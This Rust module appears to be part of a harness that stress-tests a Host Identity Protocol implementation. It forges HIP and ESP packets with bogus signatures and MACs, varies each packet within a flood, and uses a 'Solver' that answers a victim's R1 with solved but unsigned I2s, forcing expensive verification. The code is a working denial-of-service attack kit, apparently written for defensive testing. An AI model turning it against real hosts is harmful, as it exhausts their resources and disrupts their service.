//! Packets that nobody has the keys for, made from what everybody can see.

use std::net::{SocketAddr, SocketAddrV4, UdpSocket};
use std::time::Duration;

use hip::identity::HostIdentity;
use hip::{Host, HostConfig, Peer, Route};
use rand_chacha::ChaCha20Rng;
use rand_core::{Rng as _, SeedableRng as _};
use wire::Hit;
use wire::Spi;
use wire::esp::emit_hip_in_udp;
use wire::hip::{
    Builder, DiffieHellman, EspInfo, HostId, Notification, Packet, PacketKind, Parameter, Puzzle, Signature, kind,
};

use crate::Failure;
use crate::clockwork::now;

/// Bytes of a MAC and of a signature with P-384.
const MAC: usize = 48;
const SIGNATURE: usize = 96;
/// ECDSA (RFC 7401 §5.2.9).
const ECDSA: u16 = 7;

/// A HIP packet as it stands in a datagram.
pub(crate) fn datagram(packet: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    emit_hip_in_udp(packet, &mut bytes);
    bytes
}

/// An I1 (RFC 7401 §5.3.1).
pub(crate) fn i1(from: Hit, to: Hit) -> Result<Vec<u8>, Failure> {
    Ok(datagram(&Builder::new(PacketKind::I1, from, to).push(&Parameter::DhGroupList(vec![8, 7])).finish()?))
}

fn signature() -> Parameter {
    Parameter::HipSignature(Signature { algorithm: ECDSA, bytes: vec![0x11; SIGNATURE] })
}

/// A NOTIFY whose signature is nobody's.
pub(crate) fn notify(from: Hit, to: Hit) -> Result<Vec<u8>, Failure> {
    let news = Notification { message: 16384, data: Vec::new() };
    let builder = Builder::new(PacketKind::Notify, from, to).push(&Parameter::Notification(news));
    Ok(datagram(&builder.push(&signature()).finish()?))
}

/// An UPDATE that would open a path, with a MAC that is nobody's.
pub(crate) fn update(from: Hit, to: Hit) -> Result<Vec<u8>, Failure> {
    let builder = Builder::new(PacketKind::Update, from, to)
        .push(&Parameter::EspInfo(EspInfo { keymat_index: 300, old_spi: Spi(0), new_spi: Spi(77_777) }))
        .push(&Parameter::Seq(1))
        .push(&Parameter::EchoRequestSigned(vec![7; 16]))
        .push(&Parameter::HipMac(vec![0x22; MAC]));
    Ok(datagram(&builder.push(&signature()).finish()?))
}

/// A CLOSE, likewise.
pub(crate) fn close(from: Hit, to: Hit) -> Result<Vec<u8>, Failure> {
    let builder = Builder::new(PacketKind::Close, from, to)
        .push(&Parameter::EchoRequestSigned(vec![7; 16]))
        .push(&Parameter::HipMac(vec![0x22; MAC]));
    Ok(datagram(&builder.push(&signature()).finish()?))
}

/// An R1 with everything that can be seen in a true one; only the signature is nobody's.
pub(crate) fn r1(of: &HostIdentity, to: Hit) -> Result<Vec<u8>, Failure> {
    let public = of.public();
    let key = HostId {
        algorithm: public.algorithm_number(),
        identity: public.encoded().to_vec(),
        domain_type: 0,
        domain: Vec::new(),
    };
    let mut rng = ChaCha20Rng::seed_from_u64(3);
    let secret = hip::dh::EphemeralSecret::generate(hip::dh::Group::P384, &mut rng);
    let builder = Builder::new(PacketKind::R1, of.hit(), to)
        .push(&Parameter::R1Counter(u64::from(u32::MAX)))
        .push(&Parameter::Puzzle(Puzzle { difficulty: 10, lifetime: 39, opaque: 1, i: vec![5; MAC] }))
        .push(&Parameter::DhGroupList(vec![8, 7]))
        .push(&Parameter::DiffieHellman(DiffieHellman { group: 8, public: secret.public_value() }))
        .push(&Parameter::HipCipher(vec![4, 2]))
        .push(&Parameter::HostId(key))
        .push(&Parameter::HitSuiteList(vec![0x20]))
        .push(&Parameter::TransportFormatList(vec![kind::ESP_TRANSFORM]))
        .push(&Parameter::EspTransform(vec![13]))
        .push(&Parameter::HipSignature2(Signature { algorithm: ECDSA, bytes: vec![0x11; SIGNATURE] }));
    Ok(datagram(&builder.finish()?))
}

/// ESP with an SPI of the attacker's choice: sequence numbers that are fresh, and nothing true behind them.
pub(crate) fn esp(spi: u32, number: u64, length: usize, out: &mut Vec<u8>) {
    out.extend_from_slice(&spi.to_be_bytes());
    // Far ahead, so that the anti-replay window does not spare the receiver the check of the ICV.
    out.extend_from_slice(&(0x4000_0000_u32.wrapping_add(number as u32 & 0xff_ffff)).to_be_bytes());
    out.resize(8 + length, 0x77);
}

/// Another number near the end of every packet of a flood, so that no two are alike. The last bytes before the padding
/// are those of a signature, or of a MAC, or of garbage.
pub(crate) fn vary(packet: &mut [u8], number: u64) {
    let at = packet.len().saturating_sub(24);
    if let Some(field) = packet.get_mut(at..at + 8) {
        field.copy_from_slice(&number.to_be_bytes());
    }
}

/// An Initiator without its peer's good will: it works out I2s that are right in everything but the signature. It is made of a
/// true Initiator, whose signatures are destroyed.
pub(crate) struct Solver {
    host: Host,
    rng: ChaCha20Rng,
    socket: UdpSocket,
    from: Hit,
    route: Route,
    r1: Vec<u8>,
    begin: std::time::Instant,
    fetched: Duration,
}

impl Solver {
    /// `socket` is bound to the attacker's address, to which R1s come.
    pub(crate) fn new(
        identity: HostIdentity,
        victim: Hit,
        socket: UdpSocket,
        to: SocketAddrV4,
    ) -> Result<Self, Failure> {
        let mut rng = ChaCha20Rng::seed_from_u64(4);
        let from = identity.hit();
        let local = socket.local_addr()?;
        let mut host = Host::new(identity, HostConfig::new(vec![local]), &mut rng)?;
        host.add_peer(clock::Instant::ZERO, Peer::new(victim, vec![SocketAddr::V4(to)]));
        socket.set_read_timeout(Some(Duration::from_millis(300)))?;
        let route = Route { local, remote: SocketAddr::V4(to) };
        let begin = now();
        let mut solver = Self { host, rng, socket, from, route, r1: Vec::new(), begin, fetched: Duration::ZERO };
        for _ in 0..10 {
            if solver.fetch(victim)? {
                return Ok(solver);
            }
        }
        Err("the victim does not answer an I1".into())
    }

    /// A new R1 from the victim, as anybody gets one.
    pub(crate) fn fetch(&mut self, victim: Hit) -> Result<bool, Failure> {
        self.fetched = self.begin.elapsed();
        self.socket.send_to(&i1(self.from, victim)?, self.route.remote)?;
        let mut buffer = [0; 4096];
        // What else comes in meanwhile is passed over.
        for _ in 0..100 {
            let Ok(length) = self.socket.recv(&mut buffer) else { return Ok(false) };
            let Some(packet) = buffer.get(4..length) else { continue };
            if Packet::parse(packet).is_ok_and(|packet| packet.kind() == PacketKind::R1) {
                self.r1 = packet.to_vec();
                return Ok(true);
            }
        }
        Ok(false)
    }

    /// How old the R1 is.
    pub(crate) fn age(&self) -> Duration {
        self.begin.elapsed().saturating_sub(self.fetched)
    }

    /// A freshly solved I2 with a destroyed signature, or none where the R1 is not taken.
    pub(crate) fn i2(&mut self, victim: Hit) -> Option<Vec<u8>> {
        let mut at = clock::Instant::ZERO + clock::Duration::from_nanos(self.begin.elapsed().as_nanos() as u64);
        self.host.abandon(victim, "again");
        self.host.connect(at, &mut self.rng, victim).ok()?;
        while self.host.poll_transmit().is_some() {}
        self.host.handle_packet(at, &mut self.rng, self.route, &self.r1.clone());
        while self.host.poll_event().is_some() {}
        for _ in 0..10_000 {
            while let Some(sent) = self.host.poll_transmit() {
                if Packet::parse(&sent.bytes).is_ok_and(|packet| packet.kind() == PacketKind::I2) {
                    let mut bytes = datagram(&sent.bytes);
                    let number = self.rng.next_u64();
                    vary(&mut bytes, number);
                    return Some(bytes);
                }
            }
            // Hard puzzles are solved in pieces.
            at = self.host.poll_timeout().map(|(due, _)| due).filter(|due| *due > at).unwrap_or(at);
            self.host.handle_timeout(at, &mut self.rng);
        }
        None
    }
}

/// The place of #J in an I2: behind #I in SOLUTION (RFC 7401 §5.2.5).
pub(crate) fn spoil_solution(i2: &mut [u8], number: u64) {
    let found = i2.windows(2).position(|window| window == kind::SOLUTION.to_be_bytes());
    if let Some(field) = found.and_then(|at| i2.get_mut(at + 8 + MAC..at + 16 + MAC)) {
        field.copy_from_slice(&number.to_be_bytes());
    }
}
